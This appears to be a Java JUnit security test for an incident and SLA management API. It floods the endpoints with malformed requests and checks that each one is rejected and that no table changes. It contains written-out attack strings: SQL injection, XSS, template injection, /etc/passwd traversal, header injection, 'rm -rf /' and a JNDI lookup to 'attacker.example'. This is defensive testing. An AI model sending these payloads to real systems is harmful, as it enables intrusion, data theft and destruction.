package com.sladesk.drill;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sladesk.DrillResults;
import com.sladesk.SlaDeskTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.request;

/**
 * Drill 6 (hostile input): a generated corpus of malformed and hostile requests over every API
 * endpoint that takes input, each distinct request once. Every request of the corpus is invalid by
 * construction (one field broken, the others carrying injection strings); none may answer 5xx or
 * 2xx, every error must be problem+json, a 400 must name the field, and no table may change (a
 * checksum over each table's rows, not a row count). Valid requests carrying the same strings are
 * stored and read back in {@link InjectionReadBackDrillTests}.
 */
@SlaDeskTest
@Tag("drill")
class HostileInputDrillTests {

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE incident; --",
            "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "__${T(java.lang.Runtime).getRuntime()}__::.x",
            "../../../../etc/passwd", "%00%0d%0aSet-Cookie:x=y", "\u0000\u0001\u001f", "\uD83D\uDE00 ünïcødé ✓",
            "A".repeat(300), "admin'--", "1' AND SLEEP(5)#", "%s%s%s%n", "${jndi:ldap://attacker.example/a}",
            "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "' UNION SELECT password_hash FROM app_user --",
            "\r\nX-Injected: 1", "\uD83D\uDE00".repeat(100), "NULL", "undefined", "0x7fffffff", "-- ", "\\");

    static final String HUGE = "x".repeat(100_001);

    enum Kind { TEXT, OPTIONAL_TEXT, ENUM, INSTANT, OPTIONAL_INSTANT, MONTH, DATE, BOOLEAN, CODES, ID, OPTIONAL_ID,
        OUTCOME, VERSION, ALERTS, ACTIVITIES, OBJECT, IDS }

    /** Values that are invalid for a field of that kind, whatever the other fields hold. */
    static List<Object> invalid(Kind kind) {
        List<Object> common = List.of(List.of(1, 2), Map.of("nested", Map.of("deep", true)));
        List<Object> values = new ArrayList<>(switch (kind) {
            case TEXT -> List.of(nullValue(), "", "   ", HUGE);
            case OPTIONAL_TEXT -> List.of(HUGE);
            case ENUM, OUTCOME -> List.of(nullValue(), "", "BOGUS", "P1' OR '1'='1", "<script>", 5, 1.5e300);
            case INSTANT -> List.of(nullValue(), "", "not-a-date", "2026-13-45T25:61:00Z", "2026-02-30T10:00:00Z",
                    "'; DROP TABLE incident;--", 1.5e300, "+999999999-01-01T00:00:00Z");
            case OPTIONAL_INSTANT -> List.of("not-a-date", "2026-13-45T25:61:00Z", "2026-02-30T10:00:00Z",
                    "' OR 1=1 --", "+999999999-01-01T00:00:00Z", "2999-01-01T00:00:00Z");
            case MONTH -> List.of(nullValue(), "", "2026-13", "abc", "2026-1", 202610, "9999-12", "0001-01");
            case DATE -> List.of(nullValue(), "", "2026-02-30", "tomorrow", "2026/12/01", 20261201);
            case BOOLEAN -> List.of(nullValue(), "maybe", "<script>", 2.5);
            case CODES -> List.of(nullValue(), List.of(), List.of("no-such-component"), List.of(""),
                    List.of("<script>alert(1)</script>"), "core", Collections.nCopies(51, "core"),
                    List.of("' OR 1=1 --"));
            case ID -> List.of("abc", -1, 0, "99999999999999999999999", 1.5, true);
            case OPTIONAL_ID -> List.of("abc", -1, 0, "99999999999999999999999", 987654321L);
            case VERSION -> List.of(nullValue(), "", "5", "4' OR '1'='1", true);
            case ALERTS -> List.of(nullValue(), "x", Collections.singletonList(null),
                    List.of(Map.of()), List.of(Map.of("status", "exploding", "labels", Map.of())));
            case ACTIVITIES -> List.of(nullValue(), List.of(), List.of("rm -rf /"), Collections.singletonList(null));
            case OBJECT -> List.of(nullValue(), "x", 1, List.of());
            case IDS -> List.of("x", List.of("abc"), List.of(List.of(1)), List.of(Map.of("id", 1)),
                    List.of(987654321L, 987654322L), List.of(-1));
        });
        if (kind != Kind.CODES && kind != Kind.ALERTS && kind != Kind.ACTIVITIES && kind != Kind.IDS) {
            values.addAll(common);
        }
        return values;
    }

    static Object nullValue() {
        return NULL;
    }

    static final Object NULL = new Object();

    record Endpoint(String user, HttpMethod method, String path, Map<String, Kind> fields, Map<String, Object> valid) {
    }

    @Autowired
    MockMvc mvc;

    @Autowired
    ObjectMapper json;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    UserDetailsService users;

    static Map<String, Object> map(Object... pairs) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            m.put((String) pairs[i], pairs[i + 1]);
        }
        return m;
    }

    static Map<String, Kind> kinds(Object... pairs) {
        Map<String, Kind> m = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            m.put((String) pairs[i], (Kind) pairs[i + 1]);
        }
        return m;
    }

    List<Endpoint> endpoints(long incidentId, long claimId, long maintenanceId, long exceptionId, long changeId) {
        Map<String, Object> criterion = map("answer", true, "comment", "ok");
        return List.of(
                new Endpoint("sre", HttpMethod.POST, "/api/incidents",
                        kinds("title", Kind.TEXT, "description", Kind.OPTIONAL_TEXT, "severity", Kind.ENUM,
                                "components", Kind.CODES, "environment", Kind.ENUM, "impact", Kind.ENUM,
                                "openedAt", Kind.OPTIONAL_INSTANT),
                        map("title", "t", "description", "d", "severity", "P3", "components", List.of("core"),
                                "environment", "production", "impact", "degraded", "openedAt", "2026-01-05T10:00:00Z")),
                new Endpoint("sre", HttpMethod.POST, "/api/incidents/" + incidentId + "/resolve",
                        kinds("resolvedAt", Kind.OPTIONAL_INSTANT, "cause", Kind.ENUM),
                        map("resolvedAt", "2026-01-05T11:00:00Z", "cause", "internal")),
                new Endpoint("sre", HttpMethod.POST, "/api/incidents/" + incidentId + "/severity",
                        kinds("severity", Kind.ENUM), map("severity", "P2")),
                new Endpoint("acme", HttpMethod.POST, "/api/credit-requests",
                        kinds("month", Kind.MONTH, "description", Kind.TEXT, "incidentIds", Kind.IDS),
                        map("month", "2026-10", "description", "d", "incidentIds", List.of())),
                new Endpoint("sre", HttpMethod.POST, "/api/credit-requests/" + claimId + "/decision",
                        kinds("approved", Kind.BOOLEAN, "reason", Kind.OPTIONAL_TEXT),
                        map("approved", false, "reason", "r")),
                new Endpoint("sre", HttpMethod.POST, "/api/maintenance",
                        kinds("title", Kind.TEXT, "description", Kind.OPTIONAL_TEXT, "type", Kind.ENUM,
                                "startsAt", Kind.INSTANT, "endsAt", Kind.INSTANT, "components", Kind.CODES,
                                "activities", Kind.ACTIVITIES, "incidentId", Kind.OPTIONAL_ID),
                        map("title", "t", "description", "d", "type", "standard", "startsAt", "2036-01-06T02:00:00Z",
                                "endsAt", "2036-01-06T04:00:00Z", "components", List.of("core"),
                                "activities", List.of("security_patch"), "incidentId", null)),
                new Endpoint("sre", HttpMethod.POST, "/api/maintenance/" + maintenanceId + "/cancel",
                        kinds("reason", Kind.TEXT), map("reason", "r")),
                new Endpoint("sre", HttpMethod.POST, "/api/maintenance/" + maintenanceId + "/reschedule",
                        kinds("startsAt", Kind.INSTANT, "endsAt", Kind.INSTANT),
                        map("startsAt", "2036-01-13T02:00:00Z", "endsAt", "2036-01-13T04:00:00Z")),
                new Endpoint("sre", HttpMethod.POST, "/api/exceptions",
                        kinds("title", Kind.TEXT, "justification", Kind.TEXT, "riskAssessment", Kind.TEXT,
                                "mitigationPlan", Kind.TEXT, "criteria", Kind.OBJECT, "startsOn", Kind.DATE,
                                "endsOn", Kind.DATE),
                        map("title", "t", "justification", "j", "riskAssessment", "r", "mitigationPlan", "m",
                                "criteria", map("criticalBusinessNeed", criterion, "temporaryWorkaround", criterion,
                                        "customerImpactMinimal", criterion, "clearTimeline", criterion),
                                "startsOn", "2036-02-01", "endsOn", "2036-02-10")),
                new Endpoint("sre", HttpMethod.PUT, "/api/exceptions/" + exceptionId,
                        kinds("title", Kind.TEXT, "justification", Kind.TEXT, "startsOn", Kind.DATE, "endsOn", Kind.DATE),
                        map("title", "t", "justification", "j", "riskAssessment", "r", "mitigationPlan", "m",
                                "criteria", map("criticalBusinessNeed", criterion, "temporaryWorkaround", criterion,
                                        "customerImpactMinimal", criterion, "clearTimeline", criterion),
                                "startsOn", "2036-02-01", "endsOn", "2036-02-10")),
                new Endpoint("sre2", HttpMethod.POST, "/api/exceptions/" + exceptionId + "/review",
                        kinds("outcome", Kind.OUTCOME, "comment", Kind.OPTIONAL_TEXT), map("outcome", "approve", "comment", "c")),
                new Endpoint("leader", HttpMethod.POST, "/api/exceptions/" + exceptionId + "/approve",
                        kinds("approved", Kind.BOOLEAN, "comment", Kind.OPTIONAL_TEXT), map("approved", true, "comment", "c")),
                new Endpoint("sre", HttpMethod.POST, "/api/changes",
                        kinds("title", Kind.TEXT, "description", Kind.OPTIONAL_TEXT, "kind", Kind.ENUM,
                                "fixesIncidentId", Kind.OPTIONAL_ID, "testingEvidence", Kind.OPTIONAL_TEXT),
                        map("title", "t", "description", "d", "kind", "fix", "fixesIncidentId", null,
                                "testingEvidence", "e")),
                new Endpoint("cto", HttpMethod.POST, "/api/changes/" + changeId + "/decision",
                        kinds("approved", Kind.BOOLEAN, "comment", Kind.OPTIONAL_TEXT), map("approved", true, "comment", "c")),
                new Endpoint("alertmanager", HttpMethod.POST, "/api/alertmanager",
                        kinds("version", Kind.VERSION, "alerts", Kind.ALERTS),
                        map("version", "4", "status", "firing", "alerts", List.of(map("status", "firing",
                                "labels", map("alertname", "X", "severity", "critical", "component", "core"),
                                "startsAt", "2026-01-05T10:00:00Z", "fingerprint", "hostile")))));
    }

    static final List<String> TABLES = List.of("incident", "credit_request", "credit_ledger",
            "maintenance_window", "sla_exception", "sla_exception_history", "change_request", "notification", "audit_entry",
            "subscriber", "incident_timeline",
            "incident_component", "incident_sla_event", "ACT_RU_EXECUTION", "ACT_RU_VARIABLE", "ACT_RU_TASK",
            "ACT_RU_JOB", "ACT_HI_PROCINST");

    /** Each table's content as one checksum: every row's values, sorted (a changed row shows, not only a new one). */
    Map<String, String> checksums() throws Exception {
        Map<String, String> checksums = new TreeMap<>();
        for (String table : TABLES) {
            MessageDigest sha = MessageDigest.getInstance("SHA-256");
            jdbc.queryForList("select * from " + table).stream().map(row -> new TreeMap<>(row).toString()).sorted()
                    .forEach(row -> sha.update(row.getBytes(StandardCharsets.UTF_8)));
            checksums.put(table, HexFormat.of().formatHex(sha.digest()));
        }
        return checksums;
    }

    /** The requests to send, each once: a generated request equal to one already there is dropped. */
    final class Corpus {

        final Set<String> seen = new HashSet<>();

        final List<MockHttpServletRequestBuilder> requests = new ArrayList<>();

        final List<String> labels = new ArrayList<>();

        int duplicates;

        void add(Endpoint e, String contentType, String body, MockHttpServletRequestBuilder request, String label) {
            add(e.user() + " " + e.method() + " " + e.path() + " " + contentType + " " + body, request, label);
        }

        void add(String key, MockHttpServletRequestBuilder request, String label) {
            if (seen.add(key)) {
                requests.add(request);
                labels.add(label);
            }
            else {
                duplicates++;
            }
        }

        int size() {
            return requests.size();
        }
    }

    @Test
    void aHostileCorpusGetsOnlyProblemAnswersAndWritesNothing() throws Exception {
        // ids of records that exist, so that validation past the path is reached; nonsense bodies only
        long incidentId = jdbc.queryForObject("select max(id) from incident", Long.class) == null ? 1
                : jdbc.queryForObject("select max(id) from incident", Long.class);
        long claimId = orOne(jdbc.queryForObject("select max(id) from credit_request", Long.class));
        long maintenanceId = orOne(jdbc.queryForObject("select max(id) from maintenance_window", Long.class));
        long exceptionId = orOne(jdbc.queryForObject("select max(id) from sla_exception", Long.class));
        long changeId = orOne(jdbc.queryForObject("select max(id) from change_request", Long.class));
        List<Endpoint> endpoints = endpoints(incidentId, claimId, maintenanceId, exceptionId, changeId);

        Corpus corpus = new Corpus();
        for (Endpoint e : endpoints) {
            // 1. one field broken, every other string field carrying an injection string
            for (var field : e.fields().entrySet()) {
                for (Object bad : invalid(field.getValue())) {
                    for (String injection : INJECTIONS) {
                        ObjectNode body = json.valueToTree(e.valid());
                        for (String key : e.fields().keySet()) {
                            Kind kind = e.fields().get(key);
                            if (!key.equals(field.getKey()) && (kind == Kind.TEXT || kind == Kind.OPTIONAL_TEXT)) {
                                body.put(key, injection);
                            }
                        }
                        if (bad == NULL) {
                            body.putNull(field.getKey());
                        }
                        else {
                            body.set(field.getKey(), json.valueToTree(bad));
                        }
                        corpus.add(e, "json", json.writeValueAsString(body), jsonCall(e, json.writeValueAsString(body)),
                                e.method() + " " + e.path() + " " + field.getKey() + "=" + abbreviate(bad));
                    }
                }
                // 2. the field missing, where it is required
                if (field.getValue() != Kind.OPTIONAL_TEXT && field.getValue() != Kind.OPTIONAL_INSTANT
                        && field.getValue() != Kind.OPTIONAL_ID && field.getValue() != Kind.IDS) {
                    ObjectNode body = json.valueToTree(e.valid());
                    body.remove(field.getKey());
                    corpus.add(e, "json", json.writeValueAsString(body), jsonCall(e, json.writeValueAsString(body)),
                            e.method() + " " + e.path() + " without " + field.getKey());
                }
            }
            // 3. an unknown field carrying an injection string (the webhook ignores unknown fields)
            if (!e.path().equals("/api/alertmanager")) {
                for (String injection : INJECTIONS) {
                    ObjectNode body = json.valueToTree(e.valid());
                    body.put("isAdmin", injection);
                    corpus.add(e, "json", json.writeValueAsString(body), jsonCall(e, json.writeValueAsString(body)),
                            e.method() + " " + e.path() + " unknown field");
                }
            }
            // 4. bodies that are not the JSON object asked for
            for (String raw : List.of("", "null", "[]", "{", "}", "{\"title\":", "not json", "\"string\"", "42",
                    "{\"a\":" + "[".repeat(2000) + "]".repeat(2000) + "}", "{\"title\":\"\\ud800\"}",
                    "<?xml version=\"1.0\"?><incident/>", "{\"title\": NaN}")) {
                corpus.add(e, "json", raw, jsonCall(e, raw), e.method() + " " + e.path() + " body " + abbreviate(raw));
            }
            // 5. wrong content types
            for (String type : List.of(MediaType.TEXT_PLAIN_VALUE, MediaType.APPLICATION_XML_VALUE,
                    MediaType.APPLICATION_FORM_URLENCODED_VALUE, "application/x-www-form-urlencoded; charset=evil",
                    "multipart/form-data; boundary=x", "application/octet-stream")) {
                corpus.add(e, type, json.writeValueAsString(e.valid()), as(e, request(e.method(), e.path()).contentType(type)
                        .content(json.writeValueAsString(e.valid()))), e.method() + " " + e.path() + " as " + type);
            }
            corpus.add(e, "none", json.writeValueAsString(e.valid()), as(e, request(e.method(), e.path())
                    .content(json.writeValueAsString(e.valid()))), e.method() + " " + e.path() + " without a content type");
            // 6. an oversized body
            String huge = "{\"title\":\"" + "y".repeat(2 * 1024 * 1024) + "\"}";
            corpus.add(e, "json", huge, jsonCall(e, huge), e.method() + " " + e.path() + " 2 MiB body");
        }
        // 7. hostile path ids and query parameters
        List<String> ids = List.of("abc", "-1", "0", "1.5", "99999999999999999999", "1 OR 1=1", "<script>", "null",
                "%27%20OR%20%271%27%3D%271", "1;DROP TABLE incident");
        for (String id : ids) {
            for (String path : List.of("/api/incidents/{id}", "/api/credit-requests/{id}", "/api/maintenance/{id}",
                    "/api/exceptions/{id}", "/api/changes/{id}", "/api/notifications/{id}")) {
                corpus.add("GET " + path + " " + id, request(HttpMethod.GET, path, id).with(user(users.loadUserByUsername(
                        path.contains("credit") ? "acme" : path.contains("notification") ? "admin" : "sre"))).accept(MediaType.APPLICATION_JSON),
                        "GET " + path + " id=" + id);
            }
            for (String action : List.of("acknowledge", "pause", "resume", "postmortem")) {
                corpus.add("POST " + action + " " + id, request(HttpMethod.POST, "/api/incidents/{id}/" + action, id)
                        .with(user(users.loadUserByUsername("sre"))), "POST /api/incidents/{id}/" + action + " id=" + id);
            }
            corpus.add("POST retry " + id, request(HttpMethod.POST, "/api/notifications/{id}/retry", id)
                    .with(user(users.loadUserByUsername("admin"))), "POST /api/notifications/{id}/retry id=" + id);
        }
        Map<String, List<String>> queries = Map.of(
                "/api/incidents", List.of("status=BOGUS", "status=open,'--", "severity=P9", "limit=abc", "limit=0",
                        "limit=-1", "limit=1001", "limit=99999999999999", "severity=<script>"),
                "/api/availability", List.of("month=2026-13", "month=abc", "month=99999-01", "month=' OR 1=1 --",
                        "month=2026-1"),
                "/api/maintenance", List.of("from=not-a-date", "to=2026-13-45T00:00:00Z", "from=' OR 1=1 --"),
                "/api/notifications", List.of("status=BOGUS", "limit=abc", "limit=0", "limit=5000"),
                "/api/audit", List.of("limit=abc", "limit=0", "limit=100000", "subjectType=" + "x".repeat(41)));
        for (var q : queries.entrySet()) {
            for (String query : q.getValue()) {
                String user = q.getKey().equals("/api/audit") ? "admin" : "sre";
                corpus.add("GET " + q.getKey() + "?" + query, request(HttpMethod.GET, q.getKey() + "?" + query)
                        .with(user(users.loadUserByUsername(user))).accept(MediaType.APPLICATION_JSON),
                        "GET " + q.getKey() + "?" + abbreviate(query));
            }
        }

        Map<String, String> before = checksums();
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        for (int i = 0; i < corpus.size(); i++) {
            MockHttpServletResponse response = mvc.perform(corpus.requests.get(i)).andReturn().getResponse();
            int status = response.getStatus();
            statuses.merge(status, 1, Integer::sum);
            String problem = check(corpus.labels.get(i), response);
            if (problem != null && failures.size() < 300) {
                failures.add(problem);
            }
        }
        Map<String, String> after = checksums();
        DrillResults.record("Hostile input drill", corpus.size() + " distinct requests (" + corpus.duplicates
                + " duplicates generated and dropped), statuses " + statuses + ", failures " + failures.size()
                + ", table checksums unchanged: " + after.equals(before));
        failures.forEach(f -> System.out.println("  " + f));
        assertThat(corpus.size()).isGreaterThanOrEqualTo(8_000);
        assertThat(failures).isEmpty();
        assertThat(after).as("nothing written: every table's checksum").isEqualTo(before);
    }

    private String check(String label, MockHttpServletResponse response) throws Exception {
        int status = response.getStatus();
        if (status >= 500) {
            return label + ": " + status + " " + abbreviate(response.getContentAsString());
        }
        if (status < 400) {
            return label + ": accepted with " + status;
        }
        if (response.getContentType() == null || !MediaType.APPLICATION_PROBLEM_JSON.isCompatibleWith(
                MediaType.parseMediaType(response.getContentType()))) {
            return label + ": " + status + " as " + response.getContentType();
        }
        if (status == 400 || status == 415 || status == 413) {
            JsonNode errors = json.readTree(response.getContentAsByteArray()).path("errors");
            if (!errors.isArray() || errors.isEmpty() || errors.get(0).path("field").asText().isBlank()) {
                return label + ": " + status + " without a field: " + abbreviate(response.getContentAsString());
            }
        }
        return null;
    }

    private MockHttpServletRequestBuilder jsonCall(Endpoint e, String body) {
        return as(e, request(e.method(), e.path()).contentType(MediaType.APPLICATION_JSON).content(body));
    }

    private MockHttpServletRequestBuilder as(Endpoint e, MockHttpServletRequestBuilder call) {
        call.accept(MediaType.APPLICATION_JSON);
        if (e.user().equals("alertmanager")) {
            return call.header("Authorization", "Bearer test-alertmanager-token");
        }
        return call.with(user(users.loadUserByUsername(e.user())));
    }

    private static long orOne(Long id) {
        return id == null ? 1 : id;
    }

    private static String abbreviate(Object value) {
        String text = String.valueOf(value == NULL ? "null" : value);
        return text.length() > 60 ? text.substring(0, 60) + "…(" + text.length() + ")" : text;
    }
}
